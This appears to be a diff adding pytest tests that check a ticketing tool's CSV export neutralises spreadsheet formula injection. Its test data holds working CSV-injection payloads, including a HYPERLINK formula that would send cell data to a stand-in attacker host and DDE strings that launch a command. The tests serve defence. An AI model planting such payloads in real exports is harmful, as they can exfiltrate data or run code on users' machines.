@@ -13,7 +13,7 @@ import pytest
 from flashticket_core.domain.enums import Status
 from flashticket_core.errors import NotAllowed
 from flashticket_core.i18n import Language
-from flashticket_core.service_layer.export import COLUMNS
+from flashticket_core.service_layer.export import COLUMNS, neutralise
 from flashticket_core.service_layer.services import TicketService
 from tests.bot_harness import Bot
 from tests.conftest import ADMIN, ALICE, BOB, SUPPORT, Clock
@@ -117,3 +117,53 @@ def test_export_refusals(bot: Bot) -> None:
     bad = bot.command(ADMIN, "export 2026-13-01", command="/ticket-admin")
     assert "YYYY-MM-DD" in json.dumps(bad.json())
     assert bot.slack.calls("files.getUploadURLExternal") == []
+
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("https://evil.example/?d="&C2,"Details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tstarts with a tab",
+    "\rstarts with a carriage return",
+    "＝full-width equals",
+    "plain title = not a formula",
+    "'already quoted",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")
+
+
+@pytest.mark.parametrize("language", [Language.EN, Language.DE])
+def test_hostile_cells_round_trip_as_text(service: TicketService, language: Language) -> None:
+    """OWASP CSV injection: no cell a person wrote can start a formula, and every title
+    reads back as what was typed, behind the apostrophe spreadsheets take for "text"."""
+    stored = []
+    for title in HOSTILE_TITLES:
+        ticket_id = service.open_ticket(ALICE, title=title, description=title).id
+        detail = service.show(ADMIN, ticket_id)
+        stored.append((detail.ticket.title, detail.description))
+    service.remember_names({ALICE: "=cmd|' /C calc'!A0"})
+    service.language = language
+    out = io.StringIO()
+    service.export_csv(ADMIN, out)
+    rows = parse(out.getvalue(), ";" if language is Language.DE else ",")[1:]
+    assert len(rows) == len(HOSTILE_TITLES)
+    for row, (title, description) in zip(rows, stored, strict=True):
+        record = dict(zip(COLUMNS, row, strict=True))
+        for cell in (record["title"], record["description"], record["reporter_name"]):
+            assert not cell.startswith(TRIGGERS)
+        assert record["title"] == ("'" + title if title.startswith(TRIGGERS) else title)
+        assert record["description"] == (
+            "'" + description if description.startswith(TRIGGERS) else description
+        )
+        assert record["reporter_name"] == "'=cmd|' /C calc'!A0"
+    # Every cell is quoted, so no separator or line break inside a title splits a row.
+    assert out.getvalue().splitlines()[0].startswith('\ufeff"id"')
+
+
+@pytest.mark.parametrize("cell", ["\tx", "\rx", "=1", "+1", "-1", "@x", "＝1"])
+def test_every_trigger_is_neutralised(cell: str) -> None:
+    # Titles and descriptions are trimmed before they are stored; the export does not
+    # rely on that.
+    assert neutralise(cell) == "'" + cell
+    assert neutralise("x" + cell) == "x" + cell
